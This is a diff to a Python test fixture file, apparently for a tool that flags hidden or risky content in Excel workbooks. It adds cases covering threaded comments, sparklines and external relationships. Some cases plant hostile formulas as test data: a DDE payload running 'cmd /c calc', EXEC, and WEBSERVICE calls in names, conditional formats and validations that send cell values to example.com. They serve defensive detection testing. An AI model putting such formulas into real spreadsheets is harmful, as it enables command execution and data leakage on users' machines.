@@ -5,7 +5,7 @@ from __future__ import annotations
 import zipfile
 
 from tests.conftest import rewrite
-from tests.intake.books import REL
+from tests.intake.books import MAIN, REL
 from tests.trust.fixture import Case, Fixture, Found
 from tests.trust.structure import Make
 
@@ -20,17 +20,17 @@ def shape(inside: str) -> str:
     return f'<xdr:wsDr xmlns:xdr="{DRAWING}"><xdr:twoCellAnchor>{inside}</xdr:twoCellAnchor></xdr:wsDr>'
 
 
-def attach(kind: str, part: str, data: str = "x", owner: str = SHEET, outside: str = "") -> Make:
+def attach(kind: str, part: str, data: str = "x", owner: str = SHEET, outside: str = "", name: str = "rider") -> Make:
     """Return a change that adds a part, or something outside, by a relationship of this type."""
-    folder, _slash, name = owner.rpartition("/")
-    relations = f"{folder}/_rels/{name}.rels" if owner else "_rels/.rels"
+    folder, _slash, file = owner.rpartition("/")
+    relations = f"{folder}/_rels/{file}.rels" if owner else "_rels/.rels"
 
     def make(case: Case) -> None:
         with zipfile.ZipFile(case.path) as container:
             there = relations in container.namelist()
         mode = ' TargetMode="External"' if outside else ""
         target = outside or f"/{part}"
-        one = f'<Relationship Id="rider" Type="{kind}" Target="{target}"{mode}/>'
+        one = f'<Relationship Id="{name}" Type="{kind}" Target="{target}"{mode}/>'
         uri = "http://schemas.openxmlformats.org/package/2006/relationships"
         if there:
             rewrite(
@@ -56,6 +56,38 @@ def loose(part: str, content: str = "") -> Make:
             container.writestr(part, "x")
 
     return make
+
+
+REACHING = "formulas that reach out of the workbook"
+
+
+def named(formula: str) -> Make:
+    """Return a change that adds a name for a formula."""
+    one = f'<definedNames><definedName name="a">{formula}</definedName>'
+    return lambda case: case.xml(lambda xml: xml.replace("<definedNames>", one, 1), BOOK)
+
+
+def in_sheet(before: str, inside: str = "") -> Make:
+    """Return a change that adds something before, or among, the data validations of the scorecard."""
+
+    def change(xml: str) -> str:
+        begin, end, rest = xml.partition("<dataValidations")
+        attributes, closing, others = rest.partition(">")
+        return begin + before + end + attributes + closing + inside + others
+
+    return lambda case: case.xml(change)
+
+
+def threaded(text: str, plain: str | None = None) -> Make:
+    """Return a change that adds a comment with its thread, and the ordinary one that repeats it for older programs."""
+    uri = "http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"
+    thread = f'<ThreadedComments xmlns="{uri}"><threadedComment ref="I31" id="a"><text>{text}</text></threadedComment>'
+    old = (f'<comments xmlns="{MAIN}"><authors><author>tc=a</author></authors><commentList><comment ref="I31" '
+           f'authorId="0"><text><t>{plain}</t></text></comment></commentList></comments>')  # fmt: skip
+    with_thread = attach(f"{MICROSOFT}/2017/10/relationships/threadedComment", "xl/threadedComments/t.xml",
+                         f"{thread}</ThreadedComments>")  # fmt: skip
+    with_plain = attach(f"{REL}/comments", "xl/comments9.xml", old, name="plain")
+    return lambda case: (with_thread(case), with_plain(case) if plain is not None else None)
 
 
 def told(name: str, title: str, found: str, make: Make) -> Fixture:
@@ -106,12 +138,33 @@ TOLD = (
          attach(f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml", owner="")),
     told("custom-xml", "custom XML of an unknown kind", "custom XML data",
          attach(f"{REL}/customXml", "customXml/item1.xml", '<a xmlns="urn:anything"/>', owner=BOOK)),
+    told("links-long-path", "the long path of a link to another workbook", "links to other workbooks",
+         attach(f"{MICROSOFT}/2019/04/relationships/externalLinkLongPath", "", owner=BOOK, outside="file:///x.xlsx")),
+    told("theme-outside", "a theme that lies elsewhere", "content of a kind of its own",
+         attach(f"{REL}/theme", "", owner=BOOK, outside="http://example.com/theme.xml")),
+    told("comments-outside", "comments that lie elsewhere", "content of a kind of its own",
+         attach(f"{REL}/comments", "", outside="http://example.com/comments.xml")),
+    told("loose-program", "a program among the properties", "parts that nothing refers to", loose("docProps/run.exe")),
+    told("name-reaches-out", "a name that asks a server", REACHING, named("WEBSERVICE(&quot;http://example.com&quot;)")),
+    told("name-starts-program", "a name that starts a program", REACHING, named("EXEC(&quot;calc&quot;)")),
+    told("dde", "a name with a link of the old kind", REACHING, named("cmd|'/c calc'!A1")),
+    told("rule-reaches-out", "a conditional format that asks a server", REACHING,
+         in_sheet('<conditionalFormatting sqref="H20"><cfRule type="expression" priority="90"><formula>'
+                  'WEBSERVICE("http://example.com/"&amp;H20)="1"</formula></cfRule></conditionalFormatting>')),
+    told("validation-reaches-out", "a data validation that asks a server", REACHING,
+         in_sheet("", '<dataValidation type="custom" sqref="L40"><formula1>_xlfn.WEBSERVICE("http://example.com")="1"'
+                      "</formula1></dataValidation>")),
     told("unknown-kind", "a relationship of an unknown type", "content of a kind of its own",
          attach("http://example.com/relationships/theme", "xl/theme/theme8.xml", owner=BOOK)),
     told("loose-part", "a part that nothing refers to", "parts that nothing refers to", loose("xl/media/image9.png")),
     told("loose-sheet", "a sheet that no workbook lists", "parts that nothing refers to",
          loose("xl/worksheets/sheet9.xml")),
 )  # fmt: skip
+SPARKLINE = (
+    '<extLst><ext uri="a"><x14:sparklineGroups '
+    'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:sparklineGroup><x14:sparklines>'
+    "<x14:sparkline/></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst></worksheet>"
+)
 SEEN = (
     seen("picture", "a picture added", "image1.png", attach(f"{REL}/image", "xl/media/image1.png")),
     seen("picture-renamed", "a picture in a part of another name", "a.xml", attach(f"{REL}/image", "xl/theme/a.xml")),
@@ -123,6 +176,12 @@ SEEN = (
          attach(f"{REL}/drawing", "xl/shapes/a.xml", shape("<xdr:sp/>"))),
     seen("shapes-grouped", "grouped shapes", "a group of shapes",
          attach(f"{REL}/drawing", "xl/drawings/drawing1.xml", shape("<xdr:grpSp/>"))),
+    seen("sparkline", "a small chart in a cell", "a small chart in a cell",
+         lambda case: case.xml(lambda xml: xml.replace("</worksheet>", SPARKLINE))),
+    seen("word-art", "an ornamental text in the drawing of a comment", "a drawing",
+         attach(f"{REL}/vmlDrawing", "xl/d.vml",
+                '<xml xmlns:v="urn:v"><v:shape id="a"><v:textpath string="总分 91"/><x:ClientData ObjectType="Note"/>'
+                "</v:shape></xml>")),
     seen("old-drawing", "a shape in an old drawing", "a drawing",
          attach(f"{REL}/vmlDrawing", "xl/d.vml", '<xml xmlns:v="urn:v"><v:rect id="a"/></xml>')),
 )  # fmt: skip
@@ -145,8 +204,23 @@ SILENT = (
     silent("notes-drawing", "the old drawing of comments",
            attach(f"{REL}/vmlDrawing", "xl/d.vml",
                   '<xml xmlns:v="urn:v"><v:shape id="a"><x:ClientData ObjectType="Note"/></v:shape></xml>')),
+    silent("honest-name", "a name for a formula of its own workbook", named("SUM(考核表!$I$8:$I$20)")),
+    silent("honest-rule", "a conditional format with a formula",
+           in_sheet('<conditionalFormatting sqref="H20"><cfRule type="expression" priority="90"><formula>'
+                    '$H$20&gt;5</formula></cfRule></conditionalFormatting>')),
     silent("google-metadata", "what Google keeps for itself",
            attach("http://customschemas.google.com/relationships/workbookmetadata", "metadata", owner=BOOK)),
 )  # fmt: skip
 
-RIDERS: tuple[Fixture, ...] = (*TOLD, *SEEN, *SILENT)
+THREADS = (
+    Fixture("thread", "a comment of the newer kind alone", "W", (Found("comment-found", "I31", "总分 91"),),
+            threaded("总分 91")),
+    Fixture("thread-differs", "a comment that says something else to older programs", "W",
+            (Found("comment-found", "I31", "总分 91"), Found("comment-found", "I31", "请核对")),
+            threaded("总分 91", "请核对")),
+    Fixture("thread-repeated", "a comment of the newer kind that older programs show too, told once", "W",
+            (Found("comment-found", "I31", "[Threaded comment] 请核对"),),
+            threaded("请核对", "[Threaded comment] 请核对")),
+)  # fmt: skip
+
+RIDERS: tuple[Fixture, ...] = (*TOLD, *SEEN, *THREADS, *SILENT)
